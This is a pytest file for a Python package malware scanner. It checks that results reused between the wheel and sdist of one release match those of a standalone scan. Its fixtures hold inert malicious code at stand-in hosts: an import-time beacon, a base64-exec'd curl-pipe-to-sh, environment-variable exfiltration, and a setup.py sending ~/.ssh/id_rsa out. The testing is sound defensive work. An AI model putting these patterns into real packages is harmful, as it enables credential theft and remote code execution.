"""Per-module results kept across artifacts (`custody.scan.reuse`): the second artifact of a release
is judged exactly as if it were scanned alone, and nothing that depends on more than one module's
bytes is replayed into another artifact. Payloads are inert (TEST-NET and `.invalid` hosts); the
archives are only read as bytes."""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from custody.scan import Scanner, ScanTask, collect
from custody.scan.engine import release_groups, release_of
from custody.scan.model import ScanResult
from custody.scan.reuse import ModuleMemo
from custody.scan.yara_rules import PatternScan
from tests.scan.builders import DEFAULT_NAME, b64, write_sdist, write_wheel

PKG = DEFAULT_NAME
BEACON = """
import socket
import requests

def beacon():
    requests.get("https://beacon.example.invalid/b?h=" + socket.gethostname())
"""


def _findings(result: ScanResult) -> list[tuple[str, str, str, int | None, str]]:
    return sorted((f.rule, f.severity.value, f.file, f.line, f.reason) for f in result.findings)


def _alone(path: Path) -> ScanResult:
    (result,) = Scanner(reuse=False).scan_task(ScanTask(str(path)))
    return result


def _dir(path: Path) -> Path:
    path.mkdir()
    return path


def _dedent(files: dict[str, str]) -> dict[str, str]:
    return {k: textwrap.dedent(v) for k, v in files.items()}


def test_second_artifact_of_a_release_is_judged_as_if_scanned_alone(tmp_path: Path) -> None:
    files = _dedent({f"{PKG}/__init__.py": "from .net import beacon\nbeacon()\n", f"{PKG}/net.py": BEACON})
    wheel = write_wheel(_dir(tmp_path / "w"), files)
    sdist = write_sdist(_dir(tmp_path / "s"), files)
    scanner = Scanner()
    (first,) = scanner.scan_task(ScanTask(str(wheel)))
    assert scanner.memo is not None
    before = scanner.memo.hits
    (second,) = scanner.scan_task(ScanTask(str(sdist)))
    assert scanner.memo.hits > before  # the modules were replayed, not read again
    alone = _alone(sdist)
    assert (second.verdict, second.score, _findings(second)) == (alone.verdict, alone.score, _findings(alone))
    assert any(f.rule == "install-beacon" for f in second.findings)
    # each finding names the sdist's file, not the wheel's the analysis was kept from
    assert {f.file for f in second.findings}.isdisjoint(f.file for f in first.findings if f.file)


def test_a_module_that_runs_a_sibling_constant_is_never_replayed(tmp_path: Path) -> None:
    # the same runner bytes in two artifacts; what it runs is in a sibling module that differs
    runner = "import base64\nfrom ._data import BLOB\nexec(base64.b64decode(BLOB))\n"
    quiet = {f"{PKG}/__init__.py": runner, f"{PKG}/_data.py": f"BLOB = {b64('x = 1')!r}\n"}
    payload = "import os\nos.system('curl -s http://192.0.2.7/p.sh | sh')\n"
    loud = {f"{PKG}/__init__.py": runner, f"{PKG}/_data.py": f"BLOB = {b64(payload)!r}\n"}
    first = write_sdist(_dir(tmp_path / "a"), quiet)
    second = write_sdist(_dir(tmp_path / "b"), loud)
    scanner = Scanner()
    (a,) = scanner.scan_task(ScanTask(str(first)))
    (b,) = scanner.scan_task(ScanTask(str(second)))
    assert _findings(a) != _findings(b)  # the sibling's content matters to the verdict
    alone = _alone(second)
    assert (b.verdict, _findings(b)) == (alone.verdict, _findings(alone))


def test_top_level_calls_are_replayed_only_when_the_imported_modules_are_the_same(tmp_path: Path) -> None:
    # the same __init__ bytes; in the first artifact `.net` is not a module of the package, in
    # the second it is, and what `beacon()` runs at import is in it
    init = "from .net import beacon\nbeacon()\n"
    without = write_sdist(_dir(tmp_path / "a"), {f"{PKG}/__init__.py": init, f"{PKG}/other.py": BEACON})
    with_net = write_sdist(
        _dir(tmp_path / "b"), _dedent({f"{PKG}/__init__.py": init, f"{PKG}/net.py": BEACON})
    )
    scanner = Scanner()
    scanner.scan_task(ScanTask(str(without)))
    (second,) = scanner.scan_task(ScanTask(str(with_net)))
    assert any(f.rule == "install-beacon" for f in second.findings)
    alone = _alone(with_net)
    assert (second.verdict, _findings(second)) == (alone.verdict, _findings(alone))


def test_a_src_layout_sdist_reads_its_imports_as_the_wheel_does(tmp_path: Path) -> None:
    # the sdist keeps the package under src/; its modules are named as the wheel's are, so the
    # import-time calls the wheel's scan found for the same bytes in the same package are reused
    init = "from .net import beacon\nbeacon()\n"
    files = _dedent({f"{PKG}/__init__.py": init, f"{PKG}/net.py": BEACON})
    wheel = write_wheel(_dir(tmp_path / "w"), files)
    sdist = write_sdist(
        _dir(tmp_path / "s"), {f"src/{path}": text for path, text in files.items()}, with_package=False
    )
    scanner = Scanner()
    scanner.scan_task(ScanTask(str(wheel)))
    (second,) = scanner.scan_task(ScanTask(str(sdist)))
    assert scanner.memo is not None
    entry = scanner.memo._entries[init.encode()]
    assert [name for name in entry.derived if name.startswith("level-calls:")] == [f"level-calls:{PKG}"]
    assert any(f.rule == "install-beacon" for f in second.findings)
    alone = _alone(sdist)
    assert (second.verdict, second.score, _findings(second)) == (alone.verdict, alone.score, _findings(alone))


def test_a_decoy_beside_the_src_layout_does_not_answer_its_relative_imports(tmp_path: Path) -> None:
    # `from .net import send` in src/pkg/__init__.py is src/pkg/net.py, whatever pkg/net.py holds
    files = {
        f"src/{PKG}/__init__.py": "import os\nfrom .net import send\nsend(dict(os.environ))\n",
        f"src/{PKG}/net.py": (
            'import requests\n\ndef send(d):\n    requests.post("https://192.0.2.7/t", json=d)\n'
        ),
        f"{PKG}/__init__.py": "",
        f"{PKG}/net.py": "def send(d):\n    return None\n",
    }
    result = _alone(write_sdist(_dir(tmp_path / "s"), files, with_package=False))
    assert result.verdict.value == "malicious" and any(f.rule == "exfil-flow" for f in result.findings)


def test_helper_summaries_are_kept_for_the_next_artifact_of_a_release(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sender = 'import requests\n\ndef send(d):\n    requests.post("https://192.0.2.7/t", json=d)\n'
    files = {
        f"{PKG}/__init__.py": "import os\nfrom ._report import send\nsend(dict(os.environ))\n",
        f"{PKG}/_report.py": sender,
    }
    summarised: list[str] = []
    real = collect.flow_summaries

    def counting(source: bytes, file: str, *args: Any, **kwargs: Any) -> Any:
        summarised.append(file)
        return real(source, file, *args, **kwargs)

    monkeypatch.setattr(collect, "flow_summaries", counting)
    scanner = Scanner()
    (first,) = scanner.scan_task(ScanTask(str(write_wheel(_dir(tmp_path / "w"), files))))
    assert len(summarised) == 1 and any(f.rule == "exfil-flow" for f in first.findings)
    sdist = write_sdist(_dir(tmp_path / "s"), files)
    (second,) = scanner.scan_task(ScanTask(str(sdist)))
    assert len(summarised) == 1  # the sdist's copy of the helper was not summarised again
    assert any(f.rule == "exfil-flow" for f in second.findings)
    alone = _alone(sdist)
    assert (second.verdict, second.score, _findings(second)) == (alone.verdict, alone.score, _findings(alone))
    # other names of the same helper are other summaries
    summarised.clear()
    other = dict(files)
    other[f"{PKG}/__init__.py"] = (
        "import os\nfrom ._report import send as s, tell\ns(dict(os.environ))\ntell()\n"
    )
    other[f"{PKG}/_report.py"] = sender + "\ndef tell():\n    pass\n"
    scanner.scan_task(ScanTask(str(write_wheel(_dir(tmp_path / "w2"), other, version="2.0"))))
    assert len(summarised) == 1


def test_release_groups_put_the_files_of_one_release_together_largest_first(tmp_path: Path) -> None:
    paths = {
        "a_wheel": tmp_path / "demo_pkg-1.0-py3-none-any.whl",
        "a_sdist": tmp_path / "demo-pkg-1.0.tar.gz",
        "other": tmp_path / "demo_pkg-2.0-py3-none-any.whl",
        "loose": tmp_path / "setup.py",
        "big": tmp_path / "big-3.0.tar.gz",
    }
    sizes = {"a_wheel": 10, "a_sdist": 10, "other": 5, "loose": 1, "big": 30}
    for key, path in paths.items():
        path.write_bytes(b"x" * sizes[key])
    tasks = [ScanTask(str(p)) for p in paths.values()]
    groups = release_groups(tasks)
    assert groups == [[4], [0, 1], [2], [3]]
    assert release_of(str(paths["a_sdist"])) == ("demo-pkg", "1.0")
    assert release_of(str(paths["loose"])) is None
    assert release_of("not-a-version.tar.gz") is None
    # a source tree or an installed distribution is never grouped by its file name
    assert release_groups([ScanTask(str(paths["a_wheel"]), tree=True), tasks[1]]) == [[0], [1]]


def test_memo_forgets_least_recently_used_bytes_past_its_budget() -> None:
    memo = ModuleMemo(budget=10)
    empty = PatternScan(hits=[], sinks=[], marks=frozenset(), ends=())
    memo.keep_patterns(b"aaaa", empty)
    memo.keep_patterns(b"bbbb", empty)
    assert memo.patterns(b"aaaa") is empty  # now the most recently used
    memo.keep_patterns(b"cccc", empty)  # 12 bytes: the least recently used goes
    assert memo.patterns(b"bbbb") is None
    assert memo.patterns(b"aaaa") is empty
    assert memo.patterns(b"cccc") is empty
    memo.keep_patterns(b"x" * 11, empty)  # larger than the whole budget: not kept
    assert memo.patterns(b"x" * 11) is None
    assert memo.derived(b"aaaa", "n", len) == 4
    assert memo.derived(b"aaaa", "n", lambda _: -1) == 4  # kept, not computed again


def test_reports_are_the_same_in_every_process(tmp_path: Path) -> None:
    """Which flow or send a finding quotes must not depend on the order a set iterates in, which
    string hashing changes from process to process: the JSON report is the same for any seed."""
    helper = (
        "import requests\n\n\ndef upload(data):\n"
        "    requests.post('https://a.example.invalid/u', data=data)\n"
        "    requests.post('https://hooks.slack.com/services/T0/B0/x', data=data)\n"
    )
    setup = (
        "import os, socket, requests\nfrom setuptools import setup\n"
        "from fixturepkg.helper import upload\n"
        "requests.get('https://x.oast.me/?h=' + socket.gethostname() + os.getlogin())\n"
        "upload(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
        "setup(name='fixturepkg', version='1.0.0')\n"
    )
    path = write_sdist(_dir(tmp_path / "s"), {f"{PKG}/helper.py": helper}, setup_py=setup)
    script = (
        "import json, sys\nfrom custody.scan import Scanner, ScanTask\n"
        "(r,) = Scanner().scan_task(ScanTask(sys.argv[1]))\n"
        "print(json.dumps([(f.rule, f.file, f.line, f.reason) for f in r.findings]))\n"
    )
    reports = {
        subprocess.run(
            [sys.executable, "-c", script, str(path)],
            env={**os.environ, "PYTHONHASHSEED": str(seed)},
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for seed in range(1, 7)
    }
    assert len(reports) == 1
    assert "secret-exfiltration" in next(iter(reports))
